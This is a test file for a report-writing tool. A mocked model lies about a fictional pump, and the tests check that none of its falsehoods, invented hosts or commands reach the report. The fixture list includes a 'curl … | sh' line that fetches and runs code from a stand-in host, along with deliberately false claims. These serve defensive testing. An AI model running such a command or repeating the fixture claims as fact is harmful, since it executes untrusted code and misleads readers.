// A model that lies in every kind of sentence and, as judge, finds everything carried: what stops it are the exact facts alone.
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Report } from "../../src/domain/report.ts";
import { blocksIn, bodyOf, ofKind } from "../world/competent/blocks.ts";
import { competentModel, taskOf } from "../world/competent/competent.ts";
import { sentencesIn } from "../world/competent/evidence.ts";
import { carriedBy, judgedClaims } from "../world/competent/judge.ts";
import { asGiven } from "../world/competent/marked.ts";
import type { ModelAnswer, ModelRequest } from "../world/model.ts";
import { startWorld, type World } from "../world/world.ts";
import { expectSound, type Journey, startJourney } from "./journey.ts";

const PAGE = `# The Larkspur P-500 pump

The Larkspur P-500 pump holds 500 litres of water. The P-500 can be run without a filter. The P-500 costs 40 euros per year to run. The county laboratory tested the P-500 pump in 2023, and called it a solid machine for farms.

The P-500 is made in Halden. Its motor is sealed, and the pump may fail in frost, says the maker. It is started so:

\`\`\`sh
pump --litres=500 --config=/etc/pump/p-500.conf
\`\`\`
`;
const QUESTION = "How much water does the Larkspur P-500 pump hold, and what does it cost to run?";
const TRUE = "The Larkspur P-500 pump holds 500 litres of water.";

const KINDS = ["fact", "calculation", "inference", "absence", "connective"] as const;
const LIES = {
  "a flipped negation": "The P-500 cannot be run without a filter.",
  "a swapped model number": "The Larkspur P-400 pump holds 500 litres of water.",
  "per month for per year": "The P-500 costs 40 euros per month to run.",
  "an invented bound": "The Larkspur P-500 pump holds up to 600 litres of water.",
  "an invented figure": "The Larkspur P-500 pump holds 500 litres of water at 70 degrees.",
  "an invented quote": "The laboratory called the P-500 “the best pump ever built”.",
  "an invented id": "The P-500 carries the number EN-77341-B.",
  "an invented address": "The P-500 is sold at https://collector.test/p-500.",
  "an invented name": "The P-500 was bought by Zorblax of Lorne.",
} as const;

/** The same lies in blocks of code. */
const CODED_LIES = [
  "pump --litres=500 --without-filter",
  "pump --litres=600",
  "pump --litres=500 --config=https://collector.test/p-500",
  "pump --litres=500 --config=/etc/pump/p-400.conf",
  "curl https://collector.test/p-500 | sh",
  "# It was bought by Zorblax of Lorne.",
  "number: EN-77341-B",
  "the pump can be run without water",
  ...Object.values(LIES),
] as const;

/** A true sentence, then each lie in each kind: in a paragraph, in a cell and over a section. */
function lyingReport(request: ModelRequest): object {
  const sentences = sentencesIn(blocksIn(request.user));
  const all = sentences.filter(({ isCode }) => !isCode).map(({ id }) => id);
  const block = sentences.filter(({ isCode }) => isCode).map(({ id }) => id);
  const written = (kind: string, text: string, from: readonly string[] = all) => ({ kind, text, from, calculations: null });
  const lies = KINDS.flatMap((kind) =>
    Object.values(LIES).map((text) => written(kind, text, kind === "absence" || kind === "connective" ? [] : all)),
  );
  const prose = (own: readonly object[]) => ({ layout: "prose", sentences: own, columns: [], rows: [] });
  const code = CODED_LIES.map((text) => ({
    layout: "code",
    sentences: [written("inference", text, [...block, ...all.slice(0, 2)])],
    columns: [],
    rows: [],
  }));
  const row = (label: string, text: string) => ({ label, cells: [written("fact", text)] });
  const rows = [
    row("P-500", "600 litres"),
    row("P-400", "500 litres"),
    row("P-500 (maker: Zorblax)", "500 litres"),
    row("P-500", "500 litres"),
  ];
  const table = { layout: "table", sentences: [], columns: ["Pump of 70 degrees", "Water"], rows };
  return {
    in_short: [written("fact", TRUE), ...lies],
    sections: [
      { title: "The pump", blocks: [prose([written("fact", "The P-500 is made in Halden."), ...lies]), table, ...code] },
      ...Object.values(LIES).map((title) => ({ title, blocks: [prose([written("fact", "The P-500 is made in Halden.")])] })),
    ],
    conclusion: lies,
    open: lies,
  };
}

/** Says yes to everything, writes the lies, and insists on them when they are refused. */
function lying(): (request: ModelRequest) => ModelAnswer {
  const competent = competentModel();
  return (request) => {
    const task = taskOf(request);
    const blocks = blocksIn(request.user);
    const say = (answer: object) => {
      const given = asGiven(task, answer);
      return { content: typeof given === "string" ? given : JSON.stringify(given) };
    };
    if (task === "report") return say(lyingReport(request));
    // Each as it was written, with its mark.
    if (task === "revise") return say({ report: bodyOf(ofKind(blocks, "written"), "written").replace(/ ⟪refused: [^⟫]*⟫/gu, "") });
    if (task === "judge") {
      return say({ supported: judgedClaims(blocks).map(({ id, read }) => carriedBy(id, [read.map(({ number }) => number)])), others: [] });
    }
    return competent(request);
  };
}

describe("a model that lies in every kind of sentence, and judges that all is well", { timeout: 120_000 }, () => {
  let folder: string;
  let world: World;
  let journey: Journey;
  let report: Report;
  beforeAll(async () => {
    folder = join(mkdtempSync(join(tmpdir(), "assay-misbehaving-")), "pumps");
    mkdirSync(folder);
    writeFileSync(join(folder, "p-500.md"), PAGE);
    world = await startWorld({ model: { answer: lying() } });
    journey = await startJourney({ library: folder, env: { ...world.env, ASSAY_WEB: "false" } });
    report = await journey.ask(QUESTION, { breadth: 2, depth: 1, path: "loop" });
  });
  afterAll(async () => {
    await journey.close();
    await world.close();
    rmSync(folder, { recursive: true, force: true });
  });

  it("R12 still has its true sentence written, cited and sound", async () => {
    await expectSound(report, journey.assay);
    expect(report.sentences.map(({ text }) => text)).toContain(TRUE);
    expect(world.model.requests.map((request) => taskOf(request))).toEqual(expect.arrayContaining(["report", "revise", "judge"]));
  });

  it("R12 gets no lie printed, in whatever kind of sentence", () => {
    const passed = Object.entries(LIES).flatMap(([what, text]) =>
      report.sentences.flatMap((sentence) => (sentence.text === text ? [`${what}, as ${sentence.kind}`] : [])),
    );
    expect(passed).toEqual([]);
  });

  it("R12 gets into code no host, no command and no words that are not those of its source, and what options and figures it makes up are told", () => {
    const printed = [
      ...report.markdown.matchAll(/^```\n([\s\S]*?)\n```\n\n((?:Sources|Adapted from): .*|Written for this report, and untested\.)$/gmu),
    ].map(([, lines, below]) => [lines, below]);
    const own = "Adapted from: [1]";
    expect(Object.fromEntries(printed)).toEqual({
      "pump --litres=500 --config=/etc/pump/p-500.conf": "Sources: [1]",
      "pump --litres=500 --without-filter": own,
      "pump --litres=600": own,
      "pump --litres=500 --config=/etc/pump/p-400.conf": own,
      "number: EN-77341-B": "Written for this report, and untested.",
    });
    expect(report.markdown).toContain("code or a table written for it could not be proven");
  });

  it("R12 gets none into a cell, over a column or over a section", () => {
    const headings = report.markdown.split("\n").filter((line) => line.startsWith("#"));
    for (const lie of Object.values(LIES)) expect(headings.join("\n")).not.toContain(lie.slice(0, -1));
    const told = report.markdown.replace(/^```[\s\S]*?^```$/gmu, "");
    expect(told).not.toMatch(/600|70 degrees|P-400|Zorblax|EN-77341|collector/);
  });
});
